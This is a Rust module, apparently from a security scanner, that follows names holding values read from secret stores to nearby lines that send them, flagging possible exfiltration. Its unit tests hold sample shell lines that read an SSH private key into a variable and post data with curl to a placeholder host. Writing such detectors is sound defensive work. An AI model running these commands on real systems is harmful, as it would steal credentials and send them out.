//! Follows what is read from a store of secrets, by the names that it gets, to later lines.
//!
//! A script reads a key into a variable, does its work, and sends the variable: no two of its
//! lines say together what it does. The names are followed by their letters alone, through
//! assignments, loops, calls and the functions that return them, in the order of the file.

use std::collections::BTreeSet;

use rustc_hash::FxHashSet;

use super::lines::{Line, LineScope};
use super::signals::{Budget, Hit, Signals};

/// The signals of what is worth following, and of where it must not go.
const SOURCES: [&str; 3] = ["secret-store", "secret-config", "secret-env"];
const SINKS: [&str; 2] = ["send", "name-channel"];
/// The most lines between the name and the sink of one call.
const MAX_CALL_LINES: u32 = 4;
/// Passes over a file: a function may be called above its body.
const PASS_COUNT: usize = 2;
/// The program of lines that are in no fence.
const OWN_LINES_ID: u32 = 0;
/// Words that begin a declaration, and are no name.
const DECLARES: [&str; 9] = [
    "const", "let", "var", "local", "export", "my", "readonly", "declare", "set",
];

/// Returns a hit of `secret-flow` for each line of a call that sends, with a name of what was read.
pub(crate) fn flows(
    lines: &[Line<'_>],
    hits: &[Hit],
    signals: &Signals,
    budget: &mut Budget<'_>,
) -> Vec<Hit> {
    let of = |names: &[&str]| -> FxHashSet<usize> {
        let signals: Vec<_> = names.iter().map(|name| signals.id(name)).collect();
        let hits = hits
            .iter()
            .filter(|hit| signals.contains(&Some(hit.signal)));
        hits.map(|hit| hit.line).collect()
    };
    let (sources, sinks) = (of(&SOURCES), of(&SINKS));
    let Some(signal) = signals.id("secret-flow") else {
        return Vec::new();
    };
    if sources.is_empty() || sinks.is_empty() {
        return Vec::new();
    }
    let sinks: BTreeSet<u32> = sinks
        .into_iter()
        .filter_map(|at| Some(lines.get(at)?.number))
        .collect();
    let is_sent = |number: u32| {
        let from = number.saturating_sub(MAX_CALL_LINES);
        sinks
            .range(from..=number.saturating_add(MAX_CALL_LINES))
            .next()
            .is_some()
    };
    let mut names = Names::default();
    let mut found = Vec::new();
    for pass in 1..=PASS_COUNT {
        names.enter(OWN_LINES_ID);
        for (at, line) in lines.iter().enumerate() {
            if LineScope::SAID.has(line.scope) || LineScope::DATA.has(line.scope) {
                continue;
            }
            if !budget.take(line.text.len()) {
                return found;
            }
            // Each fence is a program of its own. Its block is never the first.
            let is_fence = LineScope::FENCE.has(line.scope);
            let unit = if is_fence { line.block } else { OWN_LINES_ID };
            if names.unit != unit {
                names.enter(unit);
            }
            let used = names.used(&line.text);
            let is_source = sources.contains(&at);
            if used.is_some() || is_source {
                names.pass_on(&line.text);
            }
            names.note(&line.text);
            let is_sent = pass == PASS_COUNT && !is_source && is_sent(line.number);
            if let Some((start, end)) = used.filter(|_| is_sent) {
                found.push(Hit {
                    signal,
                    line: at,
                    start,
                    end,
                });
            }
        }
    }
    found
}

/// The names that hold what was read, and where a line is.
#[derive(Default)]
struct Names<'a> {
    /// Each with its program: names of one fence mean nothing in the next.
    held: FxHashSet<(u32, &'a str)>,
    /// The program that the lines are of: the block of a fence, or [`OWN_LINES_ID`].
    unit: u32,
    /// The function that the lines are in.
    function: Option<&'a str>,
    /// The name whose value goes on over several lines.
    open: Option<&'a str>,
}

impl<'a> Names<'a> {
    fn enter(&mut self, unit: u32) {
        self.unit = unit;
        (self.function, self.open) = (None, None);
    }

    /// Returns the bytes of the first name in a line that holds something.
    fn used(&self, text: &str) -> Option<(usize, usize)> {
        if self.held.is_empty() {
            return None;
        }
        let mut words = words(text).filter(|(_, word)| self.held.contains(&(self.unit, *word)));
        words.next().map(|(at, word)| (at, at + word.len()))
    }

    /// Adds the names that a line hands something on to.
    fn pass_on(&mut self, text: &'a str) {
        let start = text.trim_start();
        let returned = self.function.filter(|_| start.starts_with("return"));
        let named = assigned(start).or(returned).or(self.open);
        let bound = start
            .rsplit_once(" as ")
            .and_then(|(_, name)| first_word(name));
        for name in [named, bound].into_iter().flatten() {
            self.held.insert((self.unit, name));
        }
    }

    /// Remembers the function and the open value that a line begins or ends.
    fn note(&mut self, text: &'a str) {
        let line = text.trim();
        let function = [
            "async def ",
            "def ",
            "async function ",
            "function ",
            "func ",
            "sub ",
        ]
        .iter()
        .find_map(|word| line.trim_start_matches("export ").strip_prefix(word));
        let shell = || {
            line.strip_suffix("() {")
                .or_else(|| line.strip_suffix("(){"))
        };
        if let Some(name) = function.or_else(shell).and_then(first_word) {
            self.function = Some(name);
        }
        if line.starts_with([')', '}', ']']) {
            self.open = None;
        } else if line.ends_with(['(', '{', '[']) {
            self.open = assigned(line).or(self.open);
        }
    }
}

fn is_word(c: char) -> bool {
    c.is_ascii_alphanumeric() || c == '_'
}

/// The words of a text, each with the byte that it begins at.
fn words(text: &str) -> impl Iterator<Item = (usize, &str)> {
    let mut at = 0;
    text.split(|c: char| !is_word(c)).filter_map(move |word| {
        let start = at;
        // The separator is one character, which may have several bytes.
        let rest = text.get(start + word.len()..).unwrap_or_default();
        at = start + word.len() + rest.chars().next().map_or(0, char::len_utf8);
        (!word.is_empty()).then_some((start, word))
    })
}

fn first_word(text: &str) -> Option<&str> {
    let mut words = words(text).map(|(_, word)| word);
    words.find(|word| !DECLARES.contains(word))
}

/// Returns the name that a line gives a value: `key = …`, `info["key"] = …`, `for part in …`,
/// `parts.append(…)`.
fn assigned(line: &str) -> Option<&str> {
    if let Some(rest) = line.strip_prefix("for ") {
        return first_word(rest);
    }
    let bytes = line.as_bytes();
    let is_one = |at: &usize| {
        let around = |at: Option<usize>| at.and_then(|at| bytes.get(at)).copied().unwrap_or(b' ');
        let (before, after) = (around(at.checked_sub(1)), around(Some(at + 1)));
        !matches!(before, b'=' | b'!' | b'<' | b'>') && !matches!(after, b'=' | b'>' | b'~')
    };
    let mut signs = line.match_indices('=').map(|(at, _)| at);
    let given = signs.find(is_one).and_then(|at| target(line.get(..at)?));
    given.or_else(|| {
        let calls = [".append(", ".push(", ".update(", ".extend(", ".set("];
        let at = calls.iter().find_map(|call| line.find(call))?;
        target(line.get(..at)?)
    })
}

/// Returns the name that is the target of an assignment; none where the text is no target, as a
/// command with its arguments is none.
fn target(text: &str) -> Option<&str> {
    let mut rest = text.trim();
    while let Some(behind) = DECLARES
        .iter()
        .find_map(|word| rest.strip_prefix(word)?.strip_prefix(' '))
    {
        rest = behind.trim_start();
    }
    rest = rest.trim_start_matches(['$', '{', '[', '*', ' ']);
    loop {
        let (name, behind) = rest.split_at(rest.find(|c| !is_word(c)).unwrap_or(rest.len()));
        // Of `self.key` the last name: the first is in every line of a class.
        if let Some(last) = behind.strip_prefix('.').filter(|_| !name.is_empty()) {
            rest = last;
            continue;
        }
        let behind = behind.trim_start();
        let is_end =
            behind.is_empty() || behind.starts_with([':', ',', '[', '+', '|', '?', '}', ']']);
        return Some(name).filter(|name| is_end && !name.is_empty());
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_line_gives_its_value_to_the_name_at_its_beginning() {
        for (line, name) in [
            ("key = open(path).read()", Some("key")),
            ("const saved = readFileSync(path);", Some("saved")),
            ("export K=$(cat ~/.ssh/id_rsa)", Some("K")),
            ("info[\"key\"] = blob", Some("info")),
            ("for part in $(cat key | fold); do", Some("part")),
            ("for (const piece of text.match(/./g)) {", Some("piece")),
            ("parts.append(blob)", Some("parts")),
            ("self.key: str = blob", Some("key")),
            (
                "curl -s --data-urlencode \"u=$name\" https://a.example",
                None,
            ),
            ("requests.post(url, data=key)", None),
            ("if key == other:", None),
            ("echo $key", None),
        ] {
            assert_eq!(assigned(line), name, "{line}");
        }
    }
}
